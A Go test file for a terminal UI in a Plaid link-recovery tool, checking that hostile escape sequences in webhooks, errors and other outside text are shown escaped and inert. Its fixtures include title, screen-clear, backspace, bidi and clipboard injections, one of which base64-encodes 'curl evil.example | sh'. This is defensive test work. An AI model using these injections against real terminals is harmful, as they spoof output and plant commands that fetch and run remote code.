package tui

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"testing"
	"time"

	tea "github.com/charmbracelet/bubbletea"
	"github.com/charmbracelet/lipgloss"
	"github.com/muesli/termenv"

	"github.com/bankdown/linkrecovery/flows"
	"github.com/bankdown/linkrecovery/internal/env"
	"github.com/bankdown/linkrecovery/internal/secret"
	"github.com/bankdown/linkrecovery/internal/testkit"
	"github.com/bankdown/linkrecovery/internal/testkit/rawcontrol"
	"github.com/bankdown/linkrecovery/internal/webhook"
	"github.com/bankdown/linkrecovery/tunnel"
)

// hostileStrings are texts a terminal would obey if a view drew them raw.
var hostileStrings = map[string]string{
	"OSC 2 title":          "X\x1b]2;PWNED\x07Y",
	"OSC 52 clipboard":     "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
	"CSI clear screen":     "\x1b[2J\x1b[H",
	"C1 CSI rune":          "a\u009b2Jb",
	"C1 CSI raw byte":      "a\x9b2Jb",
	"ESC in invalid UTF-8": "\xff\x1b]2;PWNED\x07\xfe",
	"BEL":                  "ding\x07",
	"backspace":            "paid\b\b\b\bunpaid",
	"carriage return":      "evil\rgood",
	"DEL":                  "a\x7fb",
	"bidi override":        "x\u202egnp.exe",
}

// hostileViews feed h through the real message each view gets it from.
var hostileViews = []struct {
	name  string
	demo  bool
	build func(t *testing.T, f *fixture, h string)
}{
	{"inspector webhook_code", true, func(t *testing.T, f *fixture, h string) {
		f.open(nSession)
		body, _ := json.Marshal(map[string]string{"webhook_type": "LINK", "webhook_code": h, "status": h})
		f.send(webhookReceivedMsg{ev: webhookEvent(1, h, false, string(body), webhook.Webhook{Status: h})})
		f.key("w")
	}},
	{"inspector webhook_type", true, func(t *testing.T, f *fixture, h string) {
		f.open(nSession)
		ev := webhookEvent(1, "X", true, "{}", webhook.Webhook{})
		ev.Webhook.WebhookType = h
		f.send(webhookReceivedMsg{ev: ev})
		f.key("w")
	}},
	{"inspector non-JSON body", true, func(t *testing.T, f *fixture, h string) {
		f.open(nSession)
		f.send(webhookReceivedMsg{ev: webhook.Event{Kind: webhook.EventRejected, Seq: 1, At: t0, Status: 400,
			Reason: "body is not JSON: " + h, Body: []byte("raw " + h + "\x1b[31m\x9b\x1b]52;c;eA==\x07")}})
		f.key("w")
	}},
	{"rejected request in the error box", true, func(t *testing.T, f *fixture, h string) {
		f.open(nSession)
		f.send(webhookReceivedMsg{ev: webhook.Event{Kind: webhook.EventRejected, Seq: 1, At: t0, Status: 400, Reason: h}})
	}},
	{"inspector forward result", true, func(t *testing.T, f *fixture, h string) {
		f.open(nSession)
		f.send(webhookReceivedMsg{ev: sessionFinished(1, fixedToken2, true)})
		f.send(webhookReceivedMsg{ev: webhook.Event{Kind: webhook.EventForward, Seq: 1, At: t0,
			Forward: &webhook.ForwardResult{Seq: 1, URL: "http://127.0.0.1:3000/" + h, Err: h}}})
		f.key("w")
	}},
	{"session webhook status", true, func(t *testing.T, f *fixture, h string) {
		f.open(nSession)
		f.send(webhookReceivedMsg{ev: webhookEvent(1, "SESSION_FINISHED", true, "{}", webhook.Webhook{Status: h, LinkToken: fixedToken2})})
	}},
	{"session unverified reason", true, func(t *testing.T, f *fixture, h string) {
		f.open(nSession)
		ev := sessionFinished(1, fixedToken2, false)
		ev.Reason = h
		f.send(webhookReceivedMsg{ev: ev})
	}},
	{"Plaid error message", false, func(t *testing.T, f *fixture, h string) {
		f.tunnelUp()
		f.key("2")
		f.send(callFailed(nSession, "create link token", &flows.PlaidError{
			HTTPStatus: 400, Type: "INVALID_REQUEST", Code: "INVALID_FIELD", Message: h, RequestID: h, Endpoint: "/link/token/create"}))
	}},
	{"non-Plaid answer", false, func(t *testing.T, f *fixture, h string) {
		f.tunnelUp()
		f.key("2")
		f.send(callFailed(nSession, "create link token", &flows.CallError{
			Endpoint: "/link/token/create", Cause: "unexpected answer: " + h, Next: h}))
	}},
	{"tunnel error", false, func(t *testing.T, f *fixture, h string) {
		f.send(tunnelMsg{in: flows.TunnelDown{Err: &tunnel.Error{Provider: tunnel.ProviderNgrok, Cause: h, Next: h}}})
	}},
	{"plain tunnel error", false, func(t *testing.T, f *fixture, h string) {
		f.send(tunnelMsg{in: flows.TunnelDown{Err: errors.New(h)}})
	}},
	{"webhook URL in the header", false, func(t *testing.T, f *fixture, h string) {
		f.send(tunnelMsg{in: flows.TunnelUp{Provider: string(tunnel.ProviderLocal), WebhookURL: "https://x.example/" + h}})
	}},
	{"ngrok token file path and clock warning in the header", false, func(t *testing.T, f *fixture, h string) {
		f.m.header.tokenSource, f.m.header.clock = "/home/u/"+h+"/ngrok.yml", "your clock is off: "+h
		f.send(tunnelMsg{in: flows.TunnelUp{Provider: string(tunnel.ProviderNgrok), WebhookURL: "https://x.ngrok.app/webhook"}})
	}},
	{"hosted_link_url and redirect URI", false, func(t *testing.T, f *fixture, h string) {
		f.tunnelUp()
		f.key("2")
		lt := f.token(nSession)
		lt.HostedLinkURL, lt.RedirectURI = fixedURL2+h, "http://127.0.0.1:40000/complete"+h
		f.send(created(nSession, lt))
	}},
	{"hosted_link_url alone (v)", false, func(t *testing.T, f *fixture, h string) {
		f.tunnelUp()
		f.key("2")
		lt := f.token(nSession)
		lt.HostedLinkURL = fixedURL2 + h
		f.send(created(nSession, lt))
		f.key("v")
	}},
	{"inbox e-mail", true, func(t *testing.T, f *fixture, h string) {
		f.open(nSignup)
		f.send(webhookReceivedMsg{ev: eventsWebhook(1, fixedToken1, evInstitutionDown+","+evIssueFollowed)})
		mail := fixedEmail()
		mail.Subject, mail.To, mail.URL = h, h+"@example.com", fixedMail+h
		f.send(restored(nSignup, []flows.Email{mail}, []flows.Email{mail}))
	}},
	{"Item and accounts", true, func(t *testing.T, f *fixture, h string) {
		f.open(nSession)
		f.send(webhookReceivedMsg{ev: sessionFinished(1, fixedToken2, true)})
		it := fixedItem()
		it.ItemID, it.InstitutionID = h, h
		it.Accounts[0].Name, it.Accounts[0].Mask, it.Accounts[0].Subtype = h, h, h
		f.send(exchanged(nSession, it))
	}},
	{"transcript file name", true, func(t *testing.T, f *fixture, h string) {
		f.send(transcriptWrittenMsg{err: fmt.Errorf("write /tmp/%s.jsonl: no space left on device", h)})
	}},
	{"any other error", true, func(t *testing.T, f *fixture, h string) {
		f.send(callFailed(nSignup, "bring the institution back", errors.New(h)))
	}},
}

// TestHostileTextIsInert draws every hostile string through every view that shows outside text,
// without colour (so any ESC in the output is hostile) and with colour (every ESC must then start
// lipgloss's own SGR styling).
func TestHostileTextIsInert(t *testing.T) {
	for _, v := range hostileViews {
		for hname, h := range hostileStrings {
			for _, size := range [][2]int{{120, 40}, {80, 24}} {
				t.Run(fmt.Sprintf("%s/%s/%dx%d", v.name, hname, size[0], size[1]), func(t *testing.T) {
					f := newFixture(t, v.demo, size[0], size[1])
					v.build(t, f, h)
					out := f.m.View()
					assertInertView(t, out)
					// Narrow views may truncate the text away; the wide one must show it, escaped.
					if size[0] >= 120 && !strings.Contains(out, `\x`) && !strings.Contains(out, `\u`) {
						t.Errorf("the hostile text is not shown as visible escapes:\n%s", out)
					}
					withColour(t, func() { assertOnlySGR(t, f.m.View()) })
				})
			}
		}
	}
}

// TestOpenerErrorIsInert runs the o key's real Cmd with an xdg-open that fails printing escapes (exit
// 1, so its first line is shown; exit 3, no browser, shows none of it).
func TestOpenerErrorIsInert(t *testing.T) {
	if runtime.GOOS != "linux" {
		t.Skip("the fake opener is xdg-open")
	}
	dir := t.TempDir()
	script := "#!/bin/sh\nprintf '\\033]2;PWNED\\007\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\007\\233' \nexit 1\n"
	if err := os.WriteFile(filepath.Join(dir, "xdg-open"), []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", dir)
	f := newFixture(t, true, 120, 40)
	f.open(nSession)
	cmd := f.key("o")
	if cmd == nil {
		t.Fatal("o gave no Cmd")
	}
	msg := findMsg[stepErrMsg](t, cmd)
	if !strings.Contains(msg.err.Error(), "\x1b]2;PWNED") {
		t.Fatalf("the fake opener's output is not in the error: %v", msg.err)
	}
	f.send(msg)
	out := f.m.View()
	assertInertView(t, out)
	if !strings.Contains(out, `\x1b]2;PWNED\x07`) {
		t.Errorf("the opener's output is not shown escaped:\n%s", out)
	}
	withColour(t, func() { assertOnlySGR(t, f.m.View()) })
}

// findMsg runs cmd (and the Cmds of a batch) until one returns a T.
func findMsg[T any](t *testing.T, cmd tea.Cmd) T {
	t.Helper()
	var zero T
	done := make(chan T, 1)
	go func() {
		var walk func(c tea.Cmd) bool
		walk = func(c tea.Cmd) bool {
			if c == nil {
				return false
			}
			switch m := c().(type) {
			case T:
				done <- m
				return true
			case tea.BatchMsg:
				for _, sub := range m {
					if sub != nil && walk(sub) {
						return true
					}
				}
			}
			return false
		}
		if !walk(cmd) {
			close(done)
		}
	}()
	select {
	case m, ok := <-done:
		if !ok {
			t.Fatalf("the Cmd returned no %T", zero)
		}
		return m
	case <-time.After(30 * time.Second):
		t.Fatalf("the Cmd did not return a %T within 30 s", zero)
	}
	return zero
}

// TestPostedTitleSequenceIsInert is the reported attack end to end: POSTs to the real receiver
// with an OSC 2 in webhook_code, then the inspector (w). The issue's exact body has no
// webhook_type, so the receiver refuses it and the inspector shows the body re-encoded as JSON
// (\u001b); with a webhook_type it is listed as an unverified webhook and its webhook_code used
// to reach the terminal raw in the list row.
func TestPostedTitleSequenceIsInert(t *testing.T) {
	env := testkit.DemoEnv(t, env.Config{})
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	opened := openTunnelCmd(ctx, env)().(tunnelMsg)
	up, ok := opened.in.(flows.TunnelUp)
	if !ok || opened.events == nil {
		t.Fatalf("the tunnel did not open: %+v", opened)
	}
	for _, tc := range []struct{ body, want string }{
		{`{"webhook_code":"X\u001b]2;PWNED\u0007Y"}`, `"X\u001b]2;PWNED\u0007Y"`},
		{`{"webhook_type":"LINK","webhook_code":"X\u001b]2;PWNED\u0007Y"}`, `X\x1b]2;PWNED\x07Y`},
		{"{\"webhook_type\":\"LINK\",\"webhook_code\":\"X\x9b2J\x7f\"}", "X\ufffd2J\\x7f"}, // JSON decoding already turns the raw byte into U+FFFD
		{"not json \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 \x9b2J", `\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 \x9b2J`},
	} {
		f := newFixture(t, true, 160, 40)
		f.send(opened)
		resp, err := http.Post(up.WebhookURL, "application/json", strings.NewReader(tc.body))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		got := make(chan tea.Msg, 1)
		go func() { got <- waitForEventCmd(opened.events)() }()
		select {
		case msg := <-got:
			f.send(msg)
		case <-ctx.Done():
			t.Fatal("the receiver reported no event")
		}
		f.key("w")
		out := f.m.View()
		assertInertView(t, out)
		if !strings.Contains(out, tc.want) {
			t.Errorf("POST %q: the inspector does not show %s:\n%s", tc.body, tc.want, out)
		}
		withColour(t, func() { assertOnlySGR(t, f.m.View()) })
	}
}

// assertInertView fails on anything in a colourless view that a terminal would act on. The QR
// code's own colours (qrOn, qrOff: it must be dark on light whatever the theme) are the only
// escape sequences such a view draws.
func assertInertView(t *testing.T, out string) {
	t.Helper()
	out = strings.NewReplacer(qrOn, "", qrOff, "").Replace(out)
	out = stripOurLinks(t, out)
	if p := rawcontrol.Problem(out, '\n'); p != "" {
		t.Fatalf("the view %s:\n%q", p, out)
	}
}

// osc8 is our one hyperlink form (hyperlink): ESC ]8;;URL ESC \, then the text, then ESC ]8;; ESC \.
var osc8 = regexp.MustCompile(`\x1b\]8;;([^\x1b\x07]*)\x1b\\`)

// stripOurLinks removes the OSC 8 wrappers the app puts around a URL, after checking that each
// is exactly our form and that the URL inside it is inert like any other text.
func stripOurLinks(t *testing.T, out string) string {
	t.Helper()
	return osc8.ReplaceAllStringFunc(out, func(m string) string {
		u := osc8.FindStringSubmatch(m)[1]
		if p := rawcontrol.Problem(u); p != "" {
			t.Fatalf("an OSC 8 link's URL %s: %q", p, u)
		}
		return ""
	})
}

var (
	sgr    = regexp.MustCompile(`^\x1b\[[0-9;:]*m`)
	sgrAll = regexp.MustCompile(`\x1b\[[0-9;:]*m`)
)

// assertOnlySGR fails when an ESC in a coloured view starts anything but an SGR sequence, or when
// another control shows up.
func assertOnlySGR(t *testing.T, out string) {
	t.Helper()
	if !strings.Contains(out, "\x1b[") {
		t.Fatal("the coloured view has no styling: the colour profile did not apply")
	}
	out = stripOurLinks(t, out)
	for i := 0; i < len(out); i++ {
		if out[i] == 0x1b {
			m := sgr.FindString(out[i:])
			if m == "" {
				t.Fatalf("an ESC that is not SGR at %d: %q", i, out[i:min(len(out), i+24)])
			}
			i += len(m) - 1
		}
	}
	assertInertView(t, sgrAll.ReplaceAllString(out, ""))
}

// withColour renders with a true-colour profile for f, then goes back to TestMain's ASCII.
func withColour(t *testing.T, f func()) {
	t.Helper()
	lipgloss.SetColorProfile(termenv.TrueColor)
	defer lipgloss.SetColorProfile(termenv.Ascii)
	f()
}

// TestEchoedSecretIsMaskedOnScreen: a proxy that echoes the request headers in a 502 puts
// PLAID-SECRET in the error the TUI shows; the screen shows its mask, never the secret.
func TestEchoedSecretIsMaskedOnScreen(t *testing.T) {
	const plaidSecret = "tui-echoed-plaid-secret-0123456789"
	proxy := testkit.EchoingProxy(t)
	env, err := env.New(context.Background(), env.Config{ClientID: "tui-echo-client", Secret: plaidSecret, PlaidURL: proxy.URL})
	if err != nil {
		t.Fatal(err)
	}
	defer env.Close()
	f := newFixture(t, false, 120, 40)
	f.tunnelUp()
	f.key("2")
	msg := findMsg[resultMsg](t, performCmd(context.Background(), env.Perform, nSession, flows.CreateToken{}))
	f.send(msg)
	out := f.m.View()
	if strings.Contains(out, plaidSecret) || !strings.Contains(out, secret.Mask(plaidSecret)) {
		t.Errorf("the screen shows the secret, or not its mask:\n%s", out)
	}
}
